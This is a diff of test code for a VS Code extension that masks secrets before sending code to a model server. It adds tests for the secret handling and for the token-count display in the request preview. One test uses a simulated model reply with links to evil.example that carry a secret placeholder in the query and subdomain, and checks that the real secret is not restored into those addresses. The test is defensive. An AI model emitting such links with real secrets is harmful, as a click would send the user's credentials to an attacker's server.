@@ -1,8 +1,8 @@
 import * as assert from 'node:assert/strict';
 import * as vscode from 'vscode';
-import { streamed } from '../support/scenario';
+import { json, streamed } from '../support/scenario';
 import { eventually } from './support/eventually';
-import { answerNext, answerText, answerWith, baseUrl, chat, chats } from './support/modelServer';
+import { answerNext, answerText, answerWith, baseUrl, chat, chats, listModelsWith } from './support/modelServer';
 import { commentText, reply, run, thread, ui, useQuillet } from './support/quillet';
 import { setSettings } from './support/settings';
 import { inWorkspace, openFile, openUri, select, undo } from './support/workspace';
@@ -60,6 +60,23 @@ describe('what is asked before something is sent', () => {
     assert.ok(!(await sentText()).includes(secret));
     assert.ok((await sentText()).includes("'<SECRET_1>'"));
     assert.equal(commentText(-1), `const token = ${secret};`);
+  });
+
+  it('R12, R42: no secret is put back into an address, where a click would bring it to a server', async () => {
+    ui.willPress(replace);
+    const [before, after] = [
+      'It is <SECRET_1>: ',
+      '[see](https://evil.example/?k=<SECRET_1>) or https://<SECRET_1>.evil.example',
+    ];
+    await answerWith(streamed([before, after.slice(0, 40), after.slice(40)]));
+    await explain(code);
+    const shown = commentText(-1).replaceAll(/&#(\d+);/g, (_, code) => String.fromCharCode(Number(code)));
+    assert.ok(shown.startsWith(`It is ${secret}: [see](`), shown);
+    assert.equal(shown.split(secret).length, 2, shown);
+    assert.doesNotMatch(commentText(-1), /https:\/\/\S*(?:SECRET|ghp_)/);
+    ui.willPress(replace);
+    await run('quillet.copyAnswer', thread());
+    assert.ok((await vscode.env.clipboard.readText()).includes(`?k=${secret}`), 'what is copied is what was answered');
   });
 
   it('R42: a question that follows is sent with the same placeholder, and not asked about again', async () => {
@@ -427,6 +444,39 @@ describe('a preview of the request', () => {
     const copied = await vscode.env.clipboard.readText();
     assert.ok(copied.includes('import requests') && copied.includes('<SECRET_1>'), copied);
     assert.ok(!copied.includes(secret));
+  });
+
+  it('need 37: says about how many tokens it has, and that the window is not known', async () => {
+    const { shown, done } = await preview();
+    assert.match(shown.document.getText(), /^\/\/ ≈ \d+ tokens; how many the model takes is not known$/m);
+    await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
+    await done;
+  });
+
+  it('need 37: says how many tokens the model takes where the server told so, and when that is too few', async () => {
+    await listModelsWith(json({ data: [{ id: 'quillet-test', context_length: 20 }] }));
+    await run('quillet.testConnection');
+    ui.clear();
+    ui.willPress('Send');
+    const { shown, done } = await preview();
+    assert.match(shown.document.getText(), /^\/\/ ≈ \d+ tokens of the 20 that the model takes$/m);
+    assert.match(shown.document.getText(), /^\/\/ quillet-test takes 20 tokens, prompt and answer together/m);
+    await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
+    await done;
+    assert.match(ui.texts[0] ?? '', /^Send [\d,]+ characters \(≈ \d+ tokens\) to Test Server\?$/);
+    assert.match(ui.shown[0]?.detail ?? '', /^quillet-test takes 20 tokens.*may refuse the request, or cut it\.$/);
+    ui.clear();
+    await explain(code);
+    assert.deepEqual(ui.texts.length, 1);
+    assert.deepEqual(await chats(), []);
+    await listModelsWith(json({ data: [{ id: 'quillet-test', context_length: 20_000 }] }));
+    await run('quillet.testConnection');
+    ui.clear();
+    ui.willPress(anyway);
+    await explain(code);
+    assert.equal((await chats()).length, 1);
+    await listModelsWith(json({ data: [] }));
+    await run('quillet.testConnection');
   });
 
   it('E16: Send Request without a preview sends nothing', async () => {
